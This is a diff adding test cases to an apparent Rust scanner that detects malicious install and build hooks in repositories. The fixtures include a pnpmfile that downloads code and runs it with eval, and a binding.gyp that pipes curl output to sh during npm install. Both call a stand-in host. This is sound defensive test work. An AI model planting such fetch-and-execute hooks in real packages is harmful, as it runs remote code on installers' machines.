@@ -106,6 +106,26 @@ const CASES: &[Case] = &[
         benign: true,
     },
     Case {
+        name: "pnpmfile that phones home",
+        files: &[(
+            ".pnpmfile.cjs",
+            "const https = require('https');\nhttps.get('https://example.invalid/c', r => { let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d)); });\nmodule.exports = { hooks: {} };\n",
+        )],
+        expect: &[("npm-install-payload", ".pnpmfile.cjs")],
+        forbid: &[],
+        benign: false,
+    },
+    Case {
+        name: "pnpmfile pinning a dependency",
+        files: &[(
+            ".pnpmfile.cjs",
+            "function readPackage(pkg) {\n  if (pkg.name === 'x') pkg.dependencies.y = '1.2.3';\n  return pkg;\n}\nmodule.exports = { hooks: { readPackage } };\n",
+        )],
+        expect: &[("npm-install-script", ".pnpmfile.cjs")],
+        forbid: &["npm-install-payload"],
+        benign: true,
+    },
+    Case {
         name: "npm test opens a reverse shell",
         files: &[(
             "package.json",
@@ -686,6 +706,16 @@ const CASES: &[Case] = &[
             "X := $(shell curl -s https://example.invalid/m | sh)\n\nall:\n\tcargo build\n",
         )],
         expect: &[("build-file-payload", "Makefile")],
+        forbid: &[],
+        benign: false,
+    },
+    Case {
+        name: "binding.gyp command expansion fetching code (runs on npm install)",
+        files: &[(
+            "binding.gyp",
+            "{ 'targets': [ { 'target_name': 'x', 'sources': [ '<!(curl -s https://example.invalid/g | sh)' ] } ] }\n",
+        )],
+        expect: &[("build-file-payload", "binding.gyp")],
         forbid: &[],
         benign: false,
     },
